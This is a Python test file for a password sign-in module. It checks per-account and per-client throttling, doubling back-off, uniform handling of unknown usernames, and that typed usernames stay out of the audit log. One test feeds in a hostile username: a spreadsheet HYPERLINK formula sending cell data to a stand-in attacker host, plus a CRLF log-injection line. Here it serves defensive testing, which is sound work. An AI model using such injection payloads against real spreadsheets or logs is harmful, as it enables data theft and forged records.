"""Password guessing is throttled per account and per client, in the store, audited; failed sign-ins never put the
typed username into the audit trail."""

from __future__ import annotations

from datetime import datetime, timedelta

import pytest

from access import audit, auth
from access.password_sign_in import SignInThrottled, sign_in_with_password
from access.sign_in_throttle import ACCOUNT_FREE_FAILURES, CLIENT_FREE_FAILURES
from data_loaders.store import create_store

T0 = datetime(2026, 3, 2, 9, 0, 0)
RIGHT = "a long enough secret"


@pytest.fixture
def store(tmp_path):
    url = f"sqlite:///{tmp_path / 'store.sqlite'}"
    engine = create_store(url)
    auth.add_user(engine, "hr", "hr_officer", password=RIGHT)
    return url, engine


def _fail(engine, username: str, times: int, client: str = "10.0.0.7", at: datetime = T0) -> None:
    for _ in range(times):
        assert sign_in_with_password(engine, username, "wrong guess", client=client, now=at) is None


def test_after_five_wrong_passwords_even_the_right_one_waits_then_works(store):
    _, engine = store
    _fail(engine, "hr", ACCOUNT_FREE_FAILURES)
    with pytest.raises(SignInThrottled, match=r"Too many attempts; try again in 1 minute\.") as refused:
        sign_in_with_password(engine, "hr", RIGHT, client="10.0.0.8", now=T0 + timedelta(seconds=30))
    assert refused.value.minutes == 1
    entry = audit.search(engine, action="sign_in_throttled").iloc[0]
    assert entry["username"] == "hr" and '"retry_after_minutes": 1' in entry["details"]
    account = sign_in_with_password(engine, "hr", RIGHT, client="10.0.0.8", now=T0 + timedelta(seconds=61))
    assert account is not None and account.username == "hr"


def test_back_off_doubles_with_every_further_failure_and_resets_after_success(store):
    _, engine = store
    _fail(engine, "hr", ACCOUNT_FREE_FAILURES)
    later = T0 + timedelta(minutes=2)
    _fail(engine, "hr", 1, at=later)  # the 6th failure: 2 minutes
    with pytest.raises(SignInThrottled, match="in 2 minutes"):
        sign_in_with_password(engine, "hr", RIGHT, client="10.0.0.7", now=later + timedelta(seconds=30))
    assert sign_in_with_password(engine, "hr", RIGHT, client="10.0.0.7", now=later + timedelta(minutes=2, seconds=1))
    _fail(engine, "hr", 1, at=later + timedelta(minutes=3))  # counting starts again after a success
    assert sign_in_with_password(engine, "hr", RIGHT, client="10.0.0.7", now=later + timedelta(minutes=3))


def test_one_client_spraying_many_usernames_is_throttled_but_others_are_not(store):
    _, engine = store
    for i in range(CLIENT_FREE_FAILURES):
        _fail(engine, f"user{i}", 1, client="203.0.113.9")
    with pytest.raises(SignInThrottled):
        sign_in_with_password(engine, "hr", RIGHT, client="203.0.113.9", now=T0 + timedelta(seconds=5))
    assert sign_in_with_password(engine, "hr", RIGHT, client="10.0.0.7", now=T0 + timedelta(seconds=5))


def test_unknown_usernames_are_throttled_alike_so_throttling_tells_nothing(store):
    _, engine = store
    _fail(engine, "nobody", ACCOUNT_FREE_FAILURES, client="10.0.0.1")
    with pytest.raises(SignInThrottled, match=r"Too many attempts; try again in 1 minute\."):
        sign_in_with_password(engine, "nobody", "x", client="10.0.0.2", now=T0)


def test_throttling_survives_a_restart_of_the_app(store):
    url, engine = store
    _fail(engine, "hr", ACCOUNT_FREE_FAILURES)
    engine.dispose()
    with pytest.raises(SignInThrottled):
        sign_in_with_password(create_store(url), "hr", RIGHT, client="10.0.0.9", now=T0 + timedelta(seconds=10))


def test_typed_unknown_username_never_reaches_the_audit_trail(store):
    _, engine = store
    typed = '=HYPERLINK("http://evil.example/?"&A1,"x")\r\nadmin signed in OK' + "A" * 5000
    sign_in_with_password(engine, typed, "whatever", client="10.0.0.3", now=T0)
    entry = audit.search(engine, action="sign_in_failed").iloc[0]
    assert entry["username"] == "(unknown user)"
    assert "HYPERLINK" not in entry["details"] and "signed in" not in entry["details"] and len(entry["details"]) < 200
    assert '"username_sha256": "' in entry["details"]
    sign_in_with_password(engine, "hr", "wrong guess", client="10.0.0.3", now=T0)
    assert audit.search(engine, action="sign_in_failed").iloc[0]["username"] == "hr"  # a real account: its name
